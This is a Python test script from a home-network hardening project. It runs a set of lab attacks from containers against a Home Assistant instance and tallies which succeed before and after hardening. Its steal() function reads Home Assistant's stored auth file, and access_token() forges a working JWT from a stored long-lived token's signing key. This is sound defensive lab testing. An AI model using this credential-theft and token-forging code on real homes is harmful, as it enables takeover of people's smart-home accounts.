# SPDX-License-Identifier: GPL-3.0-or-later
"""Attack the lab's home from inside the lab and keep the tally.

    python tests/breach/run.py before|after [FILE]

`before` also steals what a thief of an old backup would hold: the tokens in Home Assistant's storage.
FILE (default reports/lab/attacks.json) holds one entry an attack with its outcome before and after.
"""

from __future__ import annotations

import base64
import concurrent.futures
import hashlib
import hmac
import json
import subprocess
import sys
import time
from pathlib import Path

import yaml
from attacks import ATTACKS, target

ROOT = Path(__file__).parents[2]
INTRUDER = (Path(__file__).parent / "intruder.py").read_text(encoding="utf-8")
LOOT = ROOT / ".lab" / "loot.json"
ATTEMPT_SECONDS = 240
# So that a ban earned by one attack cannot be what stops the next, each attack has an address of its own.
FIRST_SOURCE = 101
WAN_DEVICE = "eth0"


def podman(*arguments, stdin=""):
    """Run podman and return its standard output."""
    done = subprocess.run(
        ["podman", *arguments], input=stdin, capture_output=True, text=True, timeout=ATTEMPT_SECONDS, check=False
    )
    if done.returncode:
        raise RuntimeError(f"podman {' '.join(arguments[:3])}: {done.stderr.strip()[-400:]}")
    return done.stdout


def steal():
    """Return the live credentials that an old backup of the soft home gives away."""
    storage = json.loads(podman("exec", "hearthwall-ha", "cat", "/srv/homeassistant/config/.storage/auth"))["data"]
    people = yaml.safe_load((ROOT / "molecule/lab/secrets.yml").read_text(encoding="utf-8"))
    tokens = storage["refresh_tokens"]
    forgotten = next(token for token in tokens if token["token_type"] == "long_lived_access_token")
    lost = min((token for token in tokens if token["token_type"] == "normal"), key=lambda token: token["created_at"])
    return {
        "owner_password": people["owner"]["password"],
        "family_password": people["family"]["password"],
        "long_lived_token": access_token(forgotten),
        "refresh_token": lost["token"],
        "client_id": lost["client_id"],
    }


def access_token(stored):
    """Return the access token (a JWT) that belongs to a stored long-lived token."""

    def part(value):
        return base64.urlsafe_b64encode(json.dumps(value).encode()).rstrip(b"=")

    now = int(time.time())
    body = (
        part({"alg": "HS256", "typ": "JWT"}) + b"." + part({"iss": stored["id"], "iat": now - 60, "exp": now + 10**8})
    )
    signature = hmac.new(stored["jwt_key"].encode(), body, hashlib.sha256).digest()
    return (body + b"." + base64.urlsafe_b64encode(signature).rstrip(b"=")).decode()


def sources(number, actor):
    """Give the attacker a fresh address pair for one attack; other actors keep their own."""
    if actor != "attacker":
        return None
    pair = (f"198.51.100.{FIRST_SOURCE + number}", f"2001:db8:100::{FIRST_SOURCE + number}")
    for address in pair:
        podman(
            "exec",
            "hearthwall-attacker",
            "ip",
            "address",
            "replace",
            f"{address}/{128 if ':' in address else 32}",
            "dev",
            WAN_DEVICE,
        )
    return pair


def attempt(number, attack, loot):
    """Carry out one attack and return {"succeeded": bool, "how": str}."""
    arguments = {
        key: loot[value[5:]] if isinstance(value, str) and value.startswith("loot:") else value
        for key, value in attack.arguments.items()
    }
    arguments.update(target=target(list(attack.doors)), source=sources(number, attack.actor))
    order = json.dumps({"attempt": attack.attempt, "with": arguments})
    answer = podman("exec", "-i", f"hearthwall-{attack.actor}", "python3", "-", order, stdin=INTRUDER)
    return json.loads(answer.splitlines()[-1])


def main(moment, path):
    """Run every attack once, merge the outcomes into the tally and print it."""
    if moment == "before" or not LOOT.exists():
        LOOT.touch(mode=0o600)
        LOOT.write_text(json.dumps(steal()), encoding="utf-8")
    loot = json.loads(LOOT.read_text(encoding="utf-8"))
    tally = {entry["id"]: entry for entry in json.loads(path.read_text(encoding="utf-8"))} if path.exists() else {}
    if moment == "before":
        tally = {}
    with concurrent.futures.ThreadPoolExecutor(max_workers=4) as pool:
        outcomes = list(pool.map(lambda job: attempt(job[0], job[1], loot), enumerate(ATTACKS)))
    for attack, outcome in zip(ATTACKS, outcomes, strict=True):
        entry = tally.setdefault(
            attack.id,
            {
                "id": attack.id,
                "from": attack.actor,
                "what": attack.what,
                "row": attack.row,
                "before": "not run",
                "after": "not run",
            },
        )
        entry[moment] = "succeeded" if outcome["succeeded"] else "blocked"
        entry[f"{moment}_how"] = outcome["how"]
        print(f"  {entry[moment]:10} {attack.actor:9} {attack.what}\n             {outcome['how']}")
    path.parent.mkdir(mode=0o700, parents=True, exist_ok=True)
    path.write_text(json.dumps(list(tally.values()), indent=2) + "\n", encoding="utf-8")
    won = sum(outcome["succeeded"] for outcome in outcomes)
    print(f"{won} of {len(ATTACKS)} attacks succeeded")


if __name__ == "__main__":
    main(sys.argv[1], Path(sys.argv[2]) if len(sys.argv) > 2 else ROOT / "reports/lab/attacks.json")
